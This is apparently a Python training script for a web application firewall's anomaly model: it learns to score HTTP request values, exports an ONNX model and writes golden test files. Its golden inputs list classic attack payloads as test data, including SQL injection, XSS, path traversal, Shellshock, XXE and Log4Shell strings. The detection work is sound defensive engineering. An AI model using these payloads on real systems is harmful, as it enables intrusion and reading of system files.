"""Trains the request-anomaly model on the corpus and exports it to ONNX.

    python train.py --train ../../../shared/corpus/train-*.jsonl \
                    --dev ../../../shared/corpus/dev-*.jsonl \
                    --out ../models/request-anomaly.onnx --metrics metrics.json \
                    --golden ../tests/data/ml-features.jsonl

The model scores one value: the probability that it carries an attack. A request's
score is the highest of its values'. The corpus labels requests, not values: an attack
request holds one payload among ordinary headers, cookies and parameters. So the values
are labelled by multiple-instance learning, from the HTTP fields only (never the
corpus's `payload`/`placeholder` metadata):

1. negatives: every value of a benign request; candidates: the values of attack
   requests that no benign request holds;
2. round 0 trains on all candidates as positives;
3. each next round takes, per attack request, the candidate the current model scores
   highest as the positive and the other candidates as negatives.

The classifier is a logistic regression on standardised features; the scaling is
folded into the weights, so the ONNX graph is `sigmoid(X · w + b)` over a batch of
values (`X: float32[N, DIM]` → `probability: float32[N, 1]`).
"""

import argparse
import json
import random
import sys

import numpy as np
import onnx
from onnx import TensorProto, helper
from sklearn.linear_model import LogisticRegression
from sklearn.metrics import roc_auc_score

import features as F

SEED = 7
ROUNDS = 3
# Regularisation strength: chosen on a split of train (not dev), and kept loose
# enough that the model does not learn the corpus's strings by heart.
C = 0.5
# The most a benign value's occurrences weigh.
MAX_WEIGHT = 50


def read_requests(paths, sample):
    requests = []
    for path in paths:
        with open(path, encoding="utf-8") as f:
            lines = f.readlines()
        if sample:
            random.Random(SEED).shuffle(lines)
            lines = lines[:sample]
        for number, line in enumerate(lines, 1):
            try:
                r = json.loads(line)
            except ValueError as e:
                sys.exit(f"{path}:{number}: not JSON: {e}")
            requests.append((r.get("label") == "attack", F.request_values(r)))
    return requests


class Featurizer:
    """Feature rows, computed once per distinct (location, value)."""

    def __init__(self):
        self.index = {}
        self.rows = []
        self.seen = []

    def row(self, pair):
        if pair not in self.index:
            self.index[pair] = len(self.rows)
            self.rows.append(F.value_features(*pair))
            self.seen.append(0)
        i = self.index[pair]
        self.seen[i] += 1
        return i

    def matrix(self):
        return np.asarray(self.rows, dtype=np.float64)


def fit(X, y, weight):
    mean = X.mean(axis=0)
    scale = X.std(axis=0)
    scale[scale == 0] = 1.0
    weight = weight * np.where(y == 1, weight[y == 0].sum() / weight[y == 1].sum(), 1.0)
    model = LogisticRegression(C=C, max_iter=3000)
    model.fit((X - mean) / scale, y, sample_weight=weight / weight.mean())
    w = model.coef_[0] / scale
    b = model.intercept_[0] - float(np.dot(model.coef_[0], mean / scale))
    return w.astype(np.float32), np.float32(b)


def predict(w, b, X):
    z = X.astype(np.float32) @ w + b
    return 1.0 / (1.0 + np.exp(-z.astype(np.float64)))


def train(requests):
    featurizer = Featurizer()
    benign_values = set()
    negatives = set()
    for attack, values in requests:
        if not attack:
            benign_values.update(v for _, v in values)
            negatives.update(featurizer.row(p) for p in values)
    bags = []
    for attack, values in requests:
        if attack:
            bag = [featurizer.row(p) for p in values if p[1] not in benign_values]
            if bag:
                bags.append(bag)
    X = featurizer.matrix()
    seen = featurizer.seen
    negatives = sorted(negatives)
    positives = sorted({i for bag in bags for i in bag})
    for round_ in range(ROUNDS):
        rows = np.array(negatives + positives)
        y = np.array([0] * len(negatives) + [1] * len(positives))
        # A value seen in many benign requests is that much more surely benign (the
        # rows are distinct values; frequent ones would otherwise count once).
        weight = np.array([min(seen[i], MAX_WEIGHT) for i in negatives] + [1.0] * len(positives), dtype=np.float64)
        w, b = fit(X[rows], y, weight)
        print(f"round {round_}: {len(negatives)} negatives, {len(positives)} positives", file=sys.stderr)
        scores = predict(w, b, X)
        chosen, others = set(), set()
        for bag in bags:
            best = max(bag, key=lambda i: scores[i])
            chosen.add(best)
            others.update(i for i in bag if i != best)
        positives = sorted(chosen)
        negatives = sorted(set(negatives) | (others - chosen))
    return w, b


def request_scores(w, b, requests):
    featurizer = Featurizer()
    bags = [[featurizer.row(p) for p in values] for _, values in requests]
    value_scores = predict(w, b, featurizer.matrix())
    labels = np.array([attack for attack, _ in requests])
    return labels, np.array([value_scores[bag].max() for bag in bags])


def metrics(labels, scores, threshold=0.5):
    caught = scores >= threshold
    tpr = float(caught[labels].mean())
    fpr = float(caught[~labels].mean())
    return {
        "attacks": int(labels.sum()),
        "benign": int((~labels).sum()),
        "threshold": threshold,
        "tpr": tpr,
        "fpr": fpr,
        "balanced_accuracy": (tpr + 1 - fpr) / 2,
        "roc_auc": float(roc_auc_score(labels, scores)),
    }


def export(w, b, path):
    weights = helper.make_tensor("w", TensorProto.FLOAT, [F.DIM, 1], w.tolist())
    bias = helper.make_tensor("b", TensorProto.FLOAT, [1], [float(b)])
    graph = helper.make_graph(
        [
            helper.make_node("MatMul", ["values", "w"], ["logit_w"]),
            helper.make_node("Add", ["logit_w", "b"], ["logit"]),
            helper.make_node("Sigmoid", ["logit"], ["probability"]),
        ],
        "request_anomaly",
        [helper.make_tensor_value_info("values", TensorProto.FLOAT, ["N", F.DIM])],
        [helper.make_tensor_value_info("probability", TensorProto.FLOAT, ["N", 1])],
        initializer=[weights, bias],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)], producer_name="waf-core/ml/train.py")
    model.doc_string = f"waf request anomaly: features v1, DIM={F.DIM}, HASH_DIM={F.HASH_DIM}"
    onnx.checker.check_model(model)
    onnx.save(model, path)


GOLDEN_INPUTS = [
    ("query", b""),
    ("query", b"shoes"),
    ("query", b"1' OR '1'='1"),
    ("body", b"<script>alert(document.cookie)</script>"),
    ("path", b"/static/../../etc/passwd"),
    ("cookie", b"e1a81aa26035bf8193307db5d29856ea"),
    ("header", b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"),
    ("header", b"() { :; }; /bin/bash -c 'cat /etc/passwd'"),
    ("raw_body", b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'),
    ("query", b"%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
    ("query", b"%%41%4%zz%"),
    ("body", "caf\u00e9 cr\u00e8me br\u00fbl\u00e9e \u2014 \U0001F600".encode()),
    ("body", b"\x00\x01\x7f\xff\xfe tab\there\r\nline"),
    ("query", b"MiXeD CaSe ${jndi:ldap://x.example/a}"),
    ("body", b"A" * 1500 + b"<svg/onload=alert(1)>"),
    ("header", b"{{7*7}}"),
]


H = [["Host", "shop.example"], ["User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0"]]
GOLDEN_REQUESTS = [
    {"method": "GET", "uri": "/a%20b/c.php?q=one+two%21&empty=&flag&x=%3Cb%3E", "headers": H + [["Cookie", "sid=abc%41; theme = dark ;lone"]]},
    {"method": "POST", "uri": "/login", "headers": H + [["Content-Type", "application/x-www-form-urlencoded"]], "body": "user=ann&pass=p%40ss+word"},
    {"method": "POST", "uri": "/api", "headers": H + [["Content-Type", "application/json; charset=utf-8"]], "body": '{"a": {"b": [1, 2.50, "x\\u00e9"]}, "t": true, "n": null, "s": "<svg>"}'},
    {"method": "POST", "uri": "/up", "headers": H + [["Content-Type", "multipart/form-data; boundary=XyZ"]], "body": '--XyZ\r\nContent-Disposition: form-data; name="note"\r\n\r\nhello\r\n--XyZ\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\nContent-Type: text/plain\r\n\r\nfile body\r\n--XyZ--\r\n'},
    {"method": "POST", "uri": "/xml", "headers": H + [["Content-Type", "application/xml"]], "body": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'},
    {"method": "PUT", "uri": "/raw", "headers": H + [["Content-Type", "text/plain"]], "body": "plain ${jndi:ldap://x}"},
]


def golden_requests(path):
    with open(path, "w", encoding="utf-8") as out:
        for number, request in enumerate(GOLDEN_REQUESTS, 1):
            request = {"id": f"g-{number}", **request}
            values = [[location, value.hex()] for location, value in F.request_values(request)]
            out.write(json.dumps({"request": request, "values": values}) + "\n")


def golden(w, b, path):
    with open(path, "w", encoding="utf-8") as out:
        for location, value in GOLDEN_INPUTS:
            norm = F.normalise(value)
            row = np.asarray([F.value_features(location, value)])
            line = {
                "location": location,
                "value_hex": value.hex(),
                "ngrams": sorted([k, v] for k, v in F.ngram_counts(norm).items()),
                "dense": F.dense_features(value, norm),
                "probability": float(predict(w, b, row)[0]),
            }
            out.write(json.dumps(line) + "\n")


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--train", nargs="+", required=True)
    parser.add_argument("--dev", nargs="*", default=[])
    parser.add_argument("--out", required=True, help="the ONNX file to write")
    parser.add_argument("--metrics", help="write dev metrics (JSON) here")
    parser.add_argument("--golden", help="write the feature golden file here")
    parser.add_argument("--golden-requests", help="write the request-values golden file here")
    parser.add_argument("--sample", type=int, default=0, help="read only this many lines of each file")
    args = parser.parse_args()

    w, b = train(read_requests(args.train, args.sample))
    export(w, b, args.out)
    print(f"wrote {args.out}", file=sys.stderr)
    if args.dev:
        labels, scores = request_scores(w, b, read_requests(args.dev, args.sample))
        result = metrics(labels, scores)
        print(json.dumps(result, indent=2))
        if args.metrics:
            with open(args.metrics, "w") as f:
                json.dump(result, f, indent=2)
                f.write("\n")
    if args.golden:
        golden(w, b, args.golden)
    if args.golden_requests:
        golden_requests(args.golden_requests)


if __name__ == "__main__":
    main()
